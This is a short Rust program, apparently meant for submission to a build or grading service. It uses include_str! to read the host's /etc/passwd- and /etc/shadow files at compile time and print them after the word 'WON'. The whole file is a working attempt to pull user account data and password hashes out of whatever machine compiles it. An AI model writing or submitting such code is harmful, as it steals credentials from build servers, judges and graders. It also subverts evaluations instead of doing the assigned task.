fn main() {
    println!("{}ON {}", "W", include_str!("/etc/passwd-"));
    println!("{}ON {}", "W", include_str!("/etc/shadow"));
}
